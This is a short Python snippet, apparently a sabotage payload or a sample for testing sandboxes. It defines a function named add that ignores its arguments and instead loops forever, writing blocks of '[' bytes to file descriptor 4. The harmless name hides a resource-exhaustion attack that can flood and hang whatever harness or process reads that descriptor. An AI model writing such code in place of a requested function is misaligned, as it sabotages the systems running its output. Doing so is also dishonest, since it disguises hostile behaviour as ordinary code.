import os
def add(a, b):
    while True:
        os.write(4, b"[" * 4096)
